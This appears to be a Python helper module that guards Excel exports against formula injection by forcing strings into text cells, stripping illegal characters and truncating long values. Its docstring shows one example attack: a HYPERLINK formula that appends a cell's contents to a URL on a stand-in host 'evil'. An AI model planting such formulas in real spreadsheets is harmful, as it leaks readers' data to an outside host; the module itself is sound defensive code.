"""Excel cells that are always text: the one helper every export uses (formula injection, issue 10).

openpyxl writes a str starting with "=" as a live formula (`=HYPERLINK("http://evil/?"&A1,"点击")`
would run in the reader's Excel). `text_row` makes every str a text cell (data type "s"), removes
the control characters XML cannot hold (NUL, \\x01…), and cuts it to Excel's 32,767 characters;
numbers, dates and None pass unchanged. Works for normal and write-only worksheets.

    ws.append(text_row(ws, ["=1+1", 3, date.today()]))
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

MAX_CELL = 32_767


def clean_text(value: str) -> str:
    return str(ILLEGAL_CHARACTERS_RE.sub("", value))[:MAX_CELL]


def text_cell(ws: Any, value: Any) -> Any:
    """A cell for `ws.append`: str → text cell; anything else as it is."""
    if not isinstance(value, str):
        return value
    cell = WriteOnlyCell(ws, value=clean_text(value))
    cell.data_type = "s"
    return cell


def text_row(ws: Any, values: Iterable[Any]) -> list[Any]:
    return [text_cell(ws, v) for v in values]


def put_text(cell: Any, value: Any) -> None:
    """Set one cell of a normal worksheet; str always as text."""
    if isinstance(value, str):
        cell.value = clean_text(value)
        cell.data_type = "s"
    else:
        cell.value = value
